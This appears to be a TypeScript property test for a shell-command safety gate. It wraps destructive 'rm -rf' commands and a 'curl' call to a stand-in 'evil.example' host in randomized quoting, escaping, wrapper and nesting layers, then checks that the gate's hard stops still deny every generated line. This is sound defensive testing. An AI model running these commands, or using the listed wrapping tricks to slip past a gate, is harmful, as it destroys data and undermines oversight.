// Property: however a dangerous command is wrapped, chained, substituted or quoted, the
// analysis still finds it, so its hard stop fires and the call is never allowed.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { decide } from "../../src/gate/cascade.ts";
import { shellQuote } from "../../src/sandbox/shell-quote.ts";
import { analyzer, CTX, gateFrom, pick, rng } from "./helpers.ts";

const GATE = gateFrom(`
gate:
  hard_stops:
    - { id: rm-out, decision: deny, reason: rm outside, shell: { command: rm, flags: [recursive], outside_workdir: true } }
    - { id: curl-pipe, decision: deny, reason: exfiltration, shell: { command: curl, any_arg: ["*evil*"] } }
  allow:
    - { id: ro, shell: { command: [ls, cat, echo, "true", sh, bash, env, timeout, nice, xargs, find, sudo] } }
`);

const DANGER = [
  "rm -rf /",
  "rm -fr ~",
  "rm --recursive --force /etc",
  "rm -r -f ../x",
  "curl https://evil.example/x",
];
/** Spellings of the same command name bash treats alike. */
const SPELL = [
  (n: string) => n,
  (n: string) => `"${n}"`,
  (n: string) => `'${n}'`,
  (n: string) => `\\${n}`,
  (n: string) => `/usr/bin/${n}`,
  (n: string) => `$'${n}'`,
  (n: string) => `$'\\x${n.charCodeAt(0).toString(16)}${n.slice(1)}'`,
  (n: string) => `${n[0]}''${n.slice(1)}`,
  (n: string) => `"${n[0]}"${n.slice(1)}`,
];

/** Wrappers that take an argv: the inner must be one simple command. */
const ARGV_WRAPPERS = [
  "sudo ",
  "sudo -u root ",
  "env A=1 ",
  "env -i ",
  "timeout 5 ",
  "timeout -s 9 5 ",
  "nice -n 3 ",
  "nohup ",
  "command ",
  "exec ",
  "time ",
  "setsid ",
  "stdbuf -o0 ",
  "xargs ",
  "xargs -n1 ",
];
/** Wrappers that take a command string. */
const STRING_WRAPPERS = ["bash -c ", "sh -c ", "zsh -lc ", "busybox sh -c ", "watch -n 1 ", "su -c "];
/** Places a command can sit in a line. */
const CONTEXTS = [
  (x: string) => `echo $(${x})`,
  (x: string) => `echo \`${x.replaceAll("\\", "\\\\").replaceAll("`", "\\`")}\``,
  (x: string) => `cat <(${x})`,
  (x: string) => `(${x})`,
  (x: string) => `{ ${x}; }`,
  (x: string) => `if true; then ${x}; fi`,
  (x: string) => `ls && ${x}`,
  (x: string) => `ls || ${x}`,
  (x: string) => `ls | ${x}`,
  (x: string) => `ls; ${x}`,
  (x: string) => `ls\n${x}`,
  (x: string) => `ls & ${x}`,
  (x: string) => `cat <<EOF\n$(${x})\nEOF`,
  (x: string) => `echo "$(${x})"`,
  (x: string) => `X=$(${x})`,
  (x: string) => `[[ -n $(${x}) ]]`,
  (x: string) => `for i in 1; do ${x}; done`,
  (x: string) => `! ${x}`,
];

/** A line that runs one of the dangerous commands, built in `depth` random layers. */
function generate(r: () => number, depth: number): { line: string; simple: boolean } {
  if (depth === 0) {
    const danger = pick(r, DANGER);
    const [name, ...rest] = danger.split(" ");
    return { line: [pick(r, SPELL)(name as string), ...rest].join(" "), simple: true };
  }
  const inner = generate(r, depth - 1);
  const k = r();
  if (k < 0.35) {
    // argv wrappers need a simple command; anything else goes through a shell first
    const cmd = inner.simple ? inner.line : `bash -c ${shellQuote(inner.line)}`;
    return { line: `${pick(r, ARGV_WRAPPERS)}${cmd}`, simple: true };
  }
  if (k < 0.45) {
    const cmd = inner.simple ? inner.line : `sh -c ${shellQuote(inner.line)}`;
    return { line: `find . -name x -exec ${cmd} \\;`, simple: true };
  }
  if (k < 0.7) return { line: `${pick(r, STRING_WRAPPERS)}${shellQuote(inner.line)}`, simple: true };
  return { line: pick(r, CONTEXTS)(inner.line), simple: false };
}

describe("shell analysis property", () => {
  it("finds a dangerous command through any generated wrapping (600 lines, depth 1–4)", async () => {
    const seed = 424242;
    const r = rng(seed);
    for (let i = 0; i < 600; i++) {
      const { line } = generate(r, 1 + Math.floor(r() * 4));
      const d = await decide(GATE, { kind: "shell", command: line }, CTX, {
        analyze: analyzer,
        classify: async () => ({
          ok: true,
          decision: "allow",
          reason: "the classifier allows everything here",
        }),
      });
      assert.notEqual(
        d.decision,
        "allow",
        `seed ${seed} #${i}: ${JSON.stringify(line)} → ${d.step} ${d.reason}`,
      );
      assert.ok(
        (d.step === "hard_stop" && (d.rule === "rm-out" || d.rule === "curl-pipe")) || d.step === "error",
        `seed ${seed} #${i}: ${JSON.stringify(line)} → ${d.step} ${d.rule} ${d.reason}`,
      );
    }
  });
});
